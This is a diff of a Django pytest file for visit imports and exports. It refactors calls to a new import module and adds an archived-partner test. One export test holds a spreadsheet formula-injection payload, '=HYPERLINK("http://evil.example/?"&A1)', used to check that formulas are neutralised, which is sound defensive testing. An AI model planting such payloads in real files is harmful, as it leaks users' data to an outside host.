@@ -10,13 +10,15 @@ import pytest
 from django.conf import settings
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
+from django.utils import timezone
 
 from allervers.operators.enums import Role
 from allervers.planning.enums import StopStatus
-from allervers.reception import services
 from allervers.reception.enums import VisitChangeKind, VisitSource
+from allervers.reception.forms import VisitForm
 from allervers.reception.importing import ImportRefused, visits_check
 from allervers.reception.models import Visit, VisitChange
+from allervers.reception.services.imports import visits_import
 from tests.html import text_of
 from tests.partners.factories import PartnerFactory
 from tests.planning.factories import SiteFactory, StopFactory
@@ -95,13 +97,11 @@ def test_one_bad_line_among_500_imports_nothing_and_is_named(operator, agent, to
         )
     ]
     with pytest.raises(ImportRefused):
-        services.visits_import(operator=operator, user=agent, name="visites.csv", content=content)
+        visits_import(operator=operator, user=agent, name="visites.csv", content=content)
     assert not Visit.objects.exists()
 
     corrected = _five_hundred(past_stops)
-    count = services.visits_import(
-        operator=operator, user=agent, name="visites.csv", content=corrected
-    )
+    count = visits_import(operator=operator, user=agent, name="visites.csv", content=corrected)
     assert count == 500
     assert Visit.objects.filter(operator=operator, source=VisitSource.IMPORTED).count() == 500
     assert VisitChange.objects.filter(kind=VisitChangeKind.IMPORTED).count() == 500
@@ -144,7 +144,7 @@ def test_an_xlsx_file_is_imported(operator, agent, topics, past_stops):
     sheet.append([value or None for value in row])
     stream = io.BytesIO()
     workbook.save(stream)
-    count = services.visits_import(
+    count = visits_import(
         operator=operator, user=agent, name="visites.xlsx", content=stream.getvalue()
     )
     assert count == 1
@@ -173,7 +173,7 @@ def test_the_documented_samples_import(operator, agent, topics, site, name):
     content = (SAMPLES / name).read_bytes()
     report = visits_check(operator=operator, name=name, content=content)
     assert report.line_errors == [] and report.file_errors == []
-    assert services.visits_import(operator=operator, user=agent, name=name, content=content) == 5
+    assert visits_import(operator=operator, user=agent, name=name, content=content) == 5
 
 
 @pytest.mark.parametrize(
@@ -200,7 +200,7 @@ def test_a_malformed_file_is_refused_in_french_and_nothing_is_saved(
     assert not report.is_valid
     assert message in " ".join(report.file_errors)
     with pytest.raises(ImportRefused):
-        services.visits_import(operator=operator, user=agent, name=name, content=content)
+        visits_import(operator=operator, user=agent, name=name, content=content)
     assert not Visit.objects.exists()
 
 
@@ -239,7 +239,7 @@ def test_a_cancelled_stop_is_refused(operator, topics, past_stops):
 def test_the_export_is_one_row_per_visit_and_reads_back(
     client, operator, coordinator, agent, topics, past_stops
 ):
-    services.visits_import(
+    visits_import(
         operator=operator,
         user=agent,
         name="v.csv",
@@ -265,7 +265,7 @@ def test_the_export_neutralises_formulas_and_reads_back(
     """A note or a name starting with = + - @ would run as a formula in a spreadsheet."""
     SiteFactory(operator=operator, name='=HYPERLINK("http://x")', slug="piege")
     note = '=HYPERLINK("http://evil.example/?"&A1)'
-    services.visits_import(
+    visits_import(
         operator=operator,
         user=agent,
         name="v.csv",
@@ -285,3 +285,19 @@ def test_the_export_neutralises_formulas_and_reads_back(
 def test_the_export_is_for_the_coordinator_only(client, operator, make_member):
     client.force_login(make_member(operator, Role.AGENT))
     assert client.get(reverse("reception:visit_export")).status_code == 403
+
+
+def test_an_archived_partner_is_refused_as_the_form_refuses_it(
+    client, operator, agent, topics, past_stops
+):
+    archived = PartnerFactory(operator=operator, name="Ancien partenaire", is_archived=True)
+    report = visits_check(
+        operator=operator,
+        name="v.csv",
+        content=_csv([_line(past_stops[0], 1, partenaires=archived.name)]),
+    )
+    assert not report.is_valid
+    assert "« Ancien partenaire » est archivé" in report.line_errors[0][1]
+    # The tablet form does not offer it either (and its service refuses it).
+    form = VisitForm(operator=operator, now=timezone.now())
+    assert archived not in form.fields["partners_seen"].queryset
